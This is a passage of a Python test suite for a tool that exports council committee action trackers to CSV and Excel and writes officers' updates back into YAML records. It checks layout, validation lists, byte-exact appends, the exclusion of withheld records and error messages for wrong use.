    rows = [row_saying("reference"), row_saying(text)]
    for grid in (read_table(write_table(rows), "t.csv"), read_workbook(write_workbook(rows, TODAY), "t.xlsx")):
        found = grid.rows[3][Tracker.WHAT.value].text if 3 in grid.rows else ""
        assert same_text(found, text)
        assert found == text or "\n" in text  # a program may turn the line ends inside a cell


def test_the_workbook_helps_whoever_fills_it_in(sample_xlsx: bytes) -> None:
    """Headings stay in view, lists offer the values, days are real dates, and a sheet explains every value."""
    book = load_workbook(io.BytesIO(sample_xlsx))
    sheet, guide = book["Tracker"], book["How to use"]
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("C2", "A1:AA13")
    offers = {str(each.sqref): each.formula1 for each in sheet.data_validations.dataValidation}
    assert sorted(offers) == ["S2:S13", "T2:T13", "U2:U13"]
    said = {str(row[0].value): str(row[1].value) for row in guide.iter_rows() if row[0].value}
    for column in COLUMNS:
        assert said[column.name] in {column.meaning, "What it means"}
        for choice in column.choices or ():
            assert choice.value in said
            assert any(choice.value in str(offer) for offer in offers.values())
    assert all(len(offer) < 256 for offer in offers.values())  # Excel refuses longer ones
    assert sheet["H2"].value == datetime.datetime(2024, 9, 30)  # noqa: DTZ001  a day of Excel has no zone
    grey, white = sheet["A2"].fill.start_color.rgb, sheet["S2"].fill.start_color.rgb
    assert grey != white
    assert sheet["S3"].fill.start_color.rgb == grey  # the look promised beside an action takes no news


@pytest.mark.parametrize("case", cases("ways_to_write_updates.yml"))
def test_an_update_is_added_where_the_officer_keeps_them(case: dict[str, str]) -> None:
    """However the list of updates is written, one more goes to its end and every other byte stays."""
    entry: Entry = {"about": "#action-1", "on": "2026-09-16", "evidence": [{"title": "Minutes"}]}
    written = with_updates(case["before"].encode(), "a.yml", [entry])
    assert written is not None
    assert written.decode() == case["after"]
    tree = read_document(written, "a.yml").tree
    assert tree is not None
    assert tree["updates"][-1] == entry  # type: ignore[index]


@given(st.text(min_size=1) | st.sampled_from(PAYLOADS))
def test_any_news_goes_into_a_record(typed: str) -> None:
    """Whatever an officer types stands in the record as typed, less what no record may hold, or is refused first."""
    if refusal_of(typed):
        return
    entry = entry_of(Target("a/items/2024-b", "action-1"), {Tracker.NEW_NEWS.value: typed})
    said = " ".join(UNSEEN.sub("", re.sub("\r\n?|[\x0b\x0c\x85\u2028\u2029]", "\n", typed)).split())
    assert entry.get("text", "") == said
    for before in (b"title: A\n", b"updates:\r\n- on: x\r\n", b"updates: [{on: x}]\n"):
        written = with_updates(before, "a.yml", [entry])
        assert written is not None
        tree = read_document(written, "a.yml").tree
        assert tree is not None
        assert tree["updates"][-1] == entry  # type: ignore[index]


@pytest.mark.parametrize("text", ["{title: A}\n", "updates: x\n", "title: [\n", "updates:\n", ""])
def test_a_file_without_a_safe_place_is_left(text: str) -> None:
    """Where a file has problems or no place is safe, nothing is added."""
    assert with_updates(text.encode(), "a.yml", [{"about": "#action-1"}]) is None


def record_files() -> Iterator[Any]:
    """Every record of the sample and the seeds."""
    for folder in (SAMPLE, SEEDS):
        for path in sorted(folder.glob("*/*/*.yml")):
            if path.parts[-3] != "shared":
                yield pytest.param(path, id="/".join(path.parts[-3:]))


@pytest.mark.parametrize("path", list(record_files()))
@pytest.mark.parametrize("end", ["\n", "\r\n"], ids=["LF", "CRLF"])
def test_only_lines_are_added(path: Path, end: str) -> None:
    """In every record there is, what was there before stays to the byte and the lines end as the others do."""
    before = path.read_bytes().replace(b"\n", end.encode())
    written = with_updates(before, "a.yml", [{"about": "#action-1", "text": "One: two"}])
    assert written is not None
    lines, old = written.splitlines(keepends=True), before.splitlines(keepends=True)
    new = [line for line in lines if line.strip().startswith((b'- about: "#action-1"', b'text: "One: two"'))]
    assert all(line.endswith(end.encode()) for line in lines)
    assert len(lines) - len(old) in {2, 3, 4}
    assert len(new) >= 2
    start = next((at for at, (one, other) in enumerate(zip(lines, old, strict=False)) if one != other), len(old))
    assert lines[start + len(lines) - len(old) :] == old[start:]


def test_withheld_records_stay_out(content: Path, tmp_path: Path) -> None:
    """A tracker has no row of a withheld record unless that is asked for, and says how many there are."""
    told = export(content, tmp_path / "t.csv")
    assert "4 records are withheld and not in it; --with-withheld puts them in." in told.output
    assert "zzq" not in (tmp_path / "t.csv").read_text("utf-8-sig").casefold()
    told = export(content, tmp_path / "all.csv", "--with-withheld")
    assert "This file holds records that are withheld. Do not publish it or send it on." in told.output
    assert "zzq" in (tmp_path / "all.csv").read_text("utf-8-sig").casefold()


def test_the_words_of_a_withheld_record_are_in_no_message(content: Path, tmp_path: Path, brought_in: Import) -> None:
    """Where a withheld record's status was written over, the message does not tell what the record says."""
    raw = exported(content, tmp_path / "t.xlsx", "--with-withheld").read_bytes()
    loaded = load_content(content)
    book = load_workbook(io.BytesIO(raw))
    sheet = book["Tracker"]
    public = {id_ for id_, record in loaded.register.records.items() if record.visibility.value == "public"}
    row = next(
        row for row in range(2, sheet.max_row + 1) if str(sheet.cell(row, 1).value).partition("#")[0] not in public
    )
    sheet.cell(row, 11).value = "paused"
    code, told = brought_in(saved(book))
    assert code == 1
    assert "this says “paused”, and the record says otherwise — put this cell back" in told


@pytest.mark.parametrize(
    "file, options, says",
    [
        pytest.param("t.ods", (), "the file has to end in .xlsx or .csv;", id="another ending"),
        pytest.param("nowhere/t.csv", (), "there is no folder", id="no folder"),
        pytest.param("there.csv", (), "is there already and may hold news. Choose another name, or add", id="there"),
        pytest.param("t.csv", ("--authority", "nortwick"), 'did you mean "northwick"?', id="no such council"),
        pytest.param("t.csv", ("--committee", "tea"), "there is no committee “tea” there; they are", id="committee"),
    ],
)  # fmt: skip
def test_wrong_use_of_export(file: str, options: tuple[str, ...], says: str, tmp_path: Path) -> None:
    """Wrong use is said in a sentence, with exit code 2, and no file is written or replaced."""
    (tmp_path / "there.csv").write_text("mine", "utf-8")
    told = export(SAMPLE, tmp_path / file, *options)
    assert told.exit_code == 2
    assert re.sub(r"[\s│]+", " ", says) in re.sub(r"[\s│]+", " ", told.output)
    assert snapshot(tmp_path) == {"there.csv": b"mine"}


def test_places_where_no_tracker_may_lie(tmp_path: Path, content: Path) -> None:
    """No tracker is put among the records, where a build would refuse it, nor withheld records where all is public."""
    (tmp_path / "mkdocs.yml").touch()
    (tmp_path / "docs").mkdir()
    inside = export(content, content / "northwick" / "t.csv")
    public = export(content, tmp_path / "docs" / "t.csv", "--with-withheld")

    assert (inside.exit_code, public.exit_code) == (2, 2)
    assert "holds records only" in inside.output
    assert "is published. Choose another" in re.sub(r"\s+", " ", public.output)
    assert list(tmp_path.rglob("*.csv")) == []
    assert export(content, tmp_path / "docs" / "t.csv").exit_code == 0


def test_a_name_that_no_file_may_have(tmp_path: Path) -> None:
    """A name that is too long for a file is said to be so."""
    told = export(SAMPLE, tmp_path / ("n" * 300 + ".csv"))
    assert (told.exit_code, "cannot be written (File name too long)" in told.output) == (1, True)


@pytest.mark.parametrize("epoch", ["abc", "9" * 20])
def test_a_wrong_day_in_the_environment(epoch: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A SOURCE_DATE_EPOCH that is no instant is wrong use, not a fault of the program."""
    monkeypatch.setenv("SOURCE_DATE_EPOCH", epoch)
    told = export(SAMPLE, tmp_path / "t.csv")
    assert (told.exit_code, "SOURCE_DATE_EPOCH in the environment is no number" in told.output) == (2, True)


def test_many_merged_cells_are_not_all_told(content: Path, sample_xlsx: bytes, brought_in: Import) -> None:
    """Of very many merged cells the first hundred are told, and that there are more."""
    book = load_workbook(io.BytesIO(sample_xlsx))
    for number in range(2, 400):
        book["Tracker"].merge_cells(f"AB{number}:AC{number}")
        book["Tracker"][f"B{number}"] = "x"
        book["Tracker"].merge_cells(f"C{number}:D{number}")
    code, told = brought_in(saved(book))
    assert code == 1
    assert told.count(" are merged, so that only one of them") == 100
    assert "more than 100 cells are wrong; only the first are shown" in told


def test_one_committee(tmp_path: Path) -> None:
    """With --committee the tracker has what that committee decided, and nothing else."""
    raw = exported(SAMPLE, tmp_path / "t.csv", "--authority", "northwick", "--committee", "cabinet").read_text(
        "utf-8-sig"
    )
    rows = list(csv.DictReader(io.StringIO(raw)))
    assert {row["Committee"] for row in rows} == {"Cabinet"}


def test_a_record_with_problems_is_mended_first(content: Path, tmp_path: Path, brought_in: Import) -> None:
    """Neither export nor import works with a record that a build would refuse; the problems are told."""
    raw = exported(content, tmp_path / "t.xlsx").read_bytes()
    (content / f"{HUB}.yml").write_text("title: x\n", "utf-8")
    before = snapshot(content)
    code, told = brought_in(raw)
    assert code == 1
    assert f"content/{HUB}.yml" in told
    assert "The record has to be mended first" in told
    assert export(content, tmp_path / "u.xlsx").exit_code == 1
    assert snapshot(content) == before


def test_a_file_changed_meanwhile_is_left(
    content: Path, sample_xlsx: bytes, brought_in: Import, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A record that somebody saves while the difference is being looked at is not written over."""
    record = content / f"{HUB}.yml"

    def saved_meanwhile(*_: object) -> str:
        record.write_text(record.read_text("utf-8") + "# mine\n", "utf-8")
        return ""

    monkeypatch.setattr(tracker, "difference", saved_meanwhile)
    with pytest.raises(click.ClickException, match="was changed meanwhile; nothing was written"):
        brought_in(edited(sample_xlsx, GOOD))
    assert record.read_text("utf-8").endswith("# mine\n")
